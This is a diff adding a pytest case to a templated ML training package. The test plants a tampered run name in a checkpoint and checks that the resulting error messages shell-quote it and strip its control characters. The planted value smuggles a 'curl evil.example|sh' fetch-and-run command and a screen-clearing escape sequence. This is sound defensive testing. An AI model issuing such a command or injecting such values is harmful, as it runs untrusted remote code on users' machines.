@@ -16,8 +16,10 @@ from test_sharded import reseal
 
 from {{cookiecutter.package}}.engine import train as recipe
 from {{cookiecutter.package}}.engine.checkpoint import dcp_files
+from {{cookiecutter.package}}.engine.checkpoint.onefile import write
+from {{cookiecutter.package}}.engine.checkpoint.resume import load
 from {{cookiecutter.package}}.engine.checkpoint.schema import STATE
-from {{cookiecutter.package}}.engine.errors import CheckpointError
+from {{cookiecutter.package}}.engine.errors import CheckpointError, RunError
 from {{cookiecutter.package}}.engine.exporting import export
 from {{cookiecutter.package}}.engine.saved_model import CHOICES
 
@@ -106,3 +108,26 @@ def test_a_fifo_inside_a_sharded_checkpoint_is_refused_in_one_line_at_once(proje
     result = ended(project, "export.py", f"checkpoint={folder}", "checkpoint.verify=false")
     assert result.returncode == 2, result.stderr
     assert result.stderr.strip() == f"error: {refused(folder, f'its {name} is a FIFO, not a regular file')}"
+
+
+def test_a_name_planted_in_a_checkpoint_is_quoted_without_its_control_characters_in_the_commands_offered(
+    make_cfg, checkpoint_dir
+):
+    recipe.train(make_cfg(QUIET, "trainer.max_steps=5", "checkpoint.every_n_steps=5"))
+    path = checkpoint_dir / "step_00000005.pt"
+    state = load(path).state
+    state["config"]["name"] = "x; curl evil.example|sh\x1b[2J"  # ESC [2J: clears the screen it is printed on
+    write(state, path)
+    with pytest.raises(RunError) as fresh:
+        recipe.train(make_cfg(QUIET, "trainer.max_steps=5"))
+    with pytest.raises(RunError) as resumed:
+        recipe.train(make_cfg(QUIET, "trainer.max_steps=10", "resume=last"))
+    quoted = "'x; curl evil.example|sh[2J'"  # one word to the shell, pasted
+    assert str(fresh.value) == (
+        f"{checkpoint_dir} holds the checkpoints of another run, {quoted}; continue that run with name={quoted} "
+        f"checkpoint.dir={checkpoint_dir} resume=last, or give 'demo' a folder of its own with checkpoint.dir=<path>"
+    )
+    assert str(resumed.value) == (
+        f"{path} is a checkpoint of the run {quoted}, not of 'demo'; continue that run with name={quoted} "
+        f"resume=last, or drop resume= and start this one from its weights with init.checkpoint={path}"
+    )
